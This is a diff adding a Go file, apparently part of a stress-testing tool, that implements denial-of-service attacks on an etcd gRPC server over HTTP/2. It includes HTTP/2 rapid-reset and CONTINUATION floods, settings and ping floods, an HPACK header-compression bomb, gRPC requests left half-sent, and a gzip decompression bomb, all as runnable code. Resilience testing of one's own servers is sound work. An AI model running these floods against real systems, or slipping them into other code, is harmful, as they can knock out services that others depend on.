@@ -1,0 +1,253 @@
+package main
+
+import (
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/binary"
+	"errors"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"strings"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// What is done with HTTP/2 frames and half requests, which no honest client sends.
+
+// open connects to the client port, by TLS if it speaks that.
+func (t *target) open(ctx context.Context) (net.Conn, error) {
+	d := net.Dialer{Timeout: 5 * time.Second}
+	conn, err := d.DialContext(ctx, "tcp", t.Client)
+	if err != nil || t.CA == "" {
+		return conn, err
+	}
+	pem, err := os.ReadFile(t.CA)
+	if err != nil {
+		return nil, err
+	}
+	pool := x509.NewCertPool()
+	pool.AppendCertsFromPEM(pem)
+	secured := tls.Client(conn, &tls.Config{RootCAs: pool, ServerName: "127.0.0.1", NextProtos: []string{"h2"}})
+	_ = secured.SetDeadline(time.Now().Add(10 * time.Second))
+	if err := secured.HandshakeContext(ctx); err != nil {
+		conn.Close()
+		return nil, err
+	}
+	return secured, secured.SetDeadline(time.Time{})
+}
+
+// framer opens an HTTP/2 connection and sends the preface. What the server sends is read and
+// thrown away if reading is true. The connection ends with ctx.
+func (t *target) framer(ctx context.Context, reading bool) (*http2.Framer, io.Closer, error) {
+	conn, err := t.open(ctx)
+	if err != nil {
+		return nil, nil, err
+	}
+	context.AfterFunc(ctx, func() { conn.Close() })
+	if reading {
+		go func() { _, _ = io.Copy(io.Discard, conn) }()
+	}
+	f := http2.NewFramer(conn, nil)
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+		conn.Close()
+		return nil, nil, err
+	}
+	return f, conn, f.WriteSettings()
+}
+
+// flood has some connections, each of which repeats step until it fails, and is
+// made anew then.
+func flood(ctx context.Context, t *target, c *counter, conns int, reading bool, step func(f *http2.Framer, n uint32) error) error {
+	c.swarm(ctx, conns, func(ctx context.Context, _ int) error {
+		f, conn, err := t.framer(ctx, reading)
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		for n := uint32(0); ctx.Err() == nil && n < 1<<29; n++ {
+			if err := step(f, n); err != nil {
+				return err
+			}
+			c.count(nil)
+		}
+		return nil
+	})
+	return nil
+}
+
+// request is the header block of a call; more are further headers.
+func request(more ...hpack.HeaderField) []byte {
+	var b bytes.Buffer
+	e := hpack.NewEncoder(&b)
+	for _, h := range append([]hpack.HeaderField{
+		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: "/etcdserverpb.KV/Range"},
+		{Name: ":authority", Value: "x"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
+	}, more...) {
+		_ = e.WriteField(h) // into memory
+	}
+	return b.Bytes()
+}
+
+func rapidReset(ctx context.Context, t *target, c *counter) error {
+	block := request()
+	body := []byte{0, 0, 0, 0, 3, 0x0a, 1, 'k'}
+	return flood(ctx, t, c, 8, true, func(f *http2.Framer, n uint32) error {
+		id := 2*n + 1
+		return errors.Join(
+			f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}),
+			f.WriteData(id, true, body),
+			f.WriteRSTStream(id, http2.ErrCodeCancel))
+	})
+}
+
+func continuation(ctx context.Context, t *target, c *counter) error {
+	first := request()
+	var b bytes.Buffer
+	e := hpack.NewEncoder(&b)
+	for range 100 {
+		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 100), Sensitive: true})
+	}
+	return flood(ctx, t, c, 8, true, func(f *http2.Framer, n uint32) error {
+		if n == 0 {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first})
+		}
+		return f.WriteContinuation(1, false, b.Bytes())
+	})
+}
+
+func settingsFlood(ctx context.Context, t *target, c *counter) error {
+	return flood(ctx, t, c, 8, false, func(f *http2.Framer, n uint32) error {
+		return errors.Join(f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}), f.WritePing(false, [8]byte{}))
+	})
+}
+
+// headerBomb names one long header again and again by its place in the table of
+// the compression.
+func headerBomb(ctx context.Context, t *target, c *counter) error {
+	var b bytes.Buffer
+	b.Write(request())
+	e := hpack.NewEncoder(&b)
+	for range 1100 {
+		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 3900)})
+	}
+	block := b.Bytes()
+	return flood(ctx, t, c, 8, true, func(f *http2.Framer, n uint32) error {
+		if n > 0 {
+			// The table of the first block holds for the others of its connection: one is enough.
+			return errors.New("once")
+		}
+		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndHeaders: true, EndStream: true})
+	})
+}
+
+func tlsPings(ctx context.Context, t *target, c *counter) error {
+	return flood(ctx, t, c, 20, true, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })
+}
+
+func tlsPrefaces(ctx context.Context, t *target, c *counter) error {
+	part := make([]byte, 16<<10)
+	held := make(chan struct{}, t.sized(1000, 50))
+	c.swarm(ctx, 16, func(ctx context.Context, _ int) error {
+		select {
+		case held <- struct{}{}:
+		case <-ctx.Done():
+			return nil
+		}
+		f, _, err := t.framer(ctx, true)
+		if err != nil {
+			<-held
+			return err
+		}
+		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request()}); err != nil {
+			return err
+		}
+		for range 15 {
+			if err := f.WriteContinuation(1, false, part); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+	return nil
+}
+
+// post sends a request of gRPC with a body of our making, by a client that keeps HTTP/2's rules.
+func post(ctx context.Context, client *http.Client, t *target, body io.Reader, header ...string) error {
+	r, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+t.Client+"/etcdserverpb.KV/Put", body)
+	if err != nil {
+		return err
+	}
+	r.Header.Set("Content-Type", "application/grpc")
+	r.Header.Set("Te", "trailers")
+	for i := 0; i < len(header); i += 2 {
+		r.Header.Set(header[i], header[i+1])
+	}
+	resp, err := client.Do(r)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	_, err = io.Copy(io.Discard, resp.Body)
+	return err
+}
+
+// plainHTTP2 is a client of HTTP/2 without TLS, with connections of its own.
+func plainHTTP2() *http.Client {
+	var only http.Protocols
+	only.SetUnencryptedHTTP2(true)
+	return &http.Client{Transport: &http.Transport{Protocols: &only}}
+}
+
+// waiting is a reader that never ends before ctx does.
+type waiting struct{ ctx context.Context }
+
+func (w waiting) Read([]byte) (int, error) { <-w.ctx.Done(); return 0, w.ctx.Err() }
+
+func halfMessages(ctx context.Context, t *target, c *counter) error {
+	const size = 1_900_000
+	prefix := binary.BigEndian.AppendUint32([]byte{0}, size)
+	clients := []*http.Client{plainHTTP2(), plainHTTP2(), plainHTTP2(), plainHTTP2(), plainHTTP2()}
+	c.swarm(ctx, t.sized(500, 50), func(ctx context.Context, i int) error {
+		return post(ctx, clients[i%len(clients)], t, io.MultiReader(bytes.NewReader(prefix), io.LimitReader(letters{}, size-1), waiting{ctx}))
+	})
+	return nil
+}
+
+// letters is a text without an end.
+type letters struct{}
+
+func (letters) Read(p []byte) (int, error) {
+	for i := range p {
+		p[i] = 'a'
+	}
+	return len(p), nil
+}
+
+func gzipBomb(ctx context.Context, t *target, c *counter) error {
+	var b bytes.Buffer
+	w, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
+	if err != nil {
+		return err
+	}
+	if _, err := w.Write(make([]byte, 10*mib)); err != nil {
+		return err
+	}
+	if err := w.Close(); err != nil {
+		return err
+	}
+	// Texts that were compressed one by one can be joined.
+	packed := bytes.Repeat(b.Bytes(), t.sized(20, 5))
+	message := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(len(packed))), packed...)
+	client := plainHTTP2()
+	c.swarm(ctx, 16, func(ctx context.Context, _ int) error {
+		return post(ctx, client, t, bytes.NewReader(message), "Grpc-Encoding", "gzip")
+	})
+	return nil
+}
